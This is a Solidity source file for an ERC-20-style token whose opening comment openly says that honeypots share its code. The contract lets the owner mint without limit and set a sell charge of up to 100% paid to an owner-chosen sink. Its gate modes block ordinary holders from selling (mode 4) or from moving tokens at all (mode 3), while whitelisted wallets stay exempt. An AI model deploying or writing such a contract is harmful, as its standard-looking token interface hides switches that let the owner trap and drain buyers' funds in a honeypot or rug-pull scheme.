// A token whose owner can mint, charge, list, limit and pause: launches, honeypots and
// restricted tokens are the same code, and differ in what the owner does with it.
pragma solidity 0.8.26;

interface Receiver {
    function $hook(address from, uint256 amount) external;
}

contract Token {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    address public owner;
    address public sink;
    uint256 public charge; // of what goes to a market, in basis points
    uint256 public most; // of one transfer by anybody who is not listed; 0: no limit
    uint8 public gate; // 0 open, 1 the listed may not send, 2 only the listed, 3 paused, 4 who sends
    mapping(address => bool) public listed;
    mapping(address => bool) public market;
    mapping(address => bool) public told; // contracts that are told of what they get

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        sink = msg.sender;
        listed[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= value, "allowance");
            allowance[from][msg.sender] = allowed - value;
        }
        _move(from, to, value);
        return true;
    }

    function $mint(address to, uint256 value) external onlyOwner {
        _mint(to, value);
    }

    function $burn(uint256 value) external {
        balanceOf[msg.sender] -= value;
        totalSupply -= value;
        emit Transfer(msg.sender, address(0), value);
    }

    function $setCharge(uint256 charge_, address sink_) external onlyOwner {
        require(charge_ <= 10000, "charge");
        charge = charge_;
        sink = sink_;
    }

    function $setMost(uint256 most_) external onlyOwner {
        most = most_;
    }

    function $setGate(uint8 gate_) external onlyOwner {
        gate = gate_;
    }

    function $setListed(address[] calldata who, bool on) external onlyOwner {
        for (uint256 i = 0; i < who.length; i++) listed[who[i]] = on;
    }

    function $setMarket(address which, bool on) external onlyOwner {
        market[which] = on;
    }

    function $setTold(bool on) external {
        told[msg.sender] = on;
    }

    function $hand(address to) external onlyOwner {
        owner = to;
    }

    function _mint(address to, uint256 value) private {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _move(address from, address to, uint256 value) private {
        if (gate == 1) require(!listed[from], "refused");
        if (gate == 2) require(listed[from] && (listed[to] || market[to]), "not listed");
        if (gate == 3) require(listed[from], "paused");
        if (gate == 4) require(listed[from] || market[from], "not listed");
        if (most > 0) require(value <= most || listed[from] || market[from], "too much");
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        uint256 cut = market[to] && !listed[from] ? value * charge / 10000 : 0;
        if (cut > 0) {
            balanceOf[sink] += cut;
            emit Transfer(from, sink, cut);
        }
        balanceOf[to] += value - cut;
        emit Transfer(from, to, value - cut);
        if (told[to]) Receiver(to).$hook(from, value - cut);
    }
}
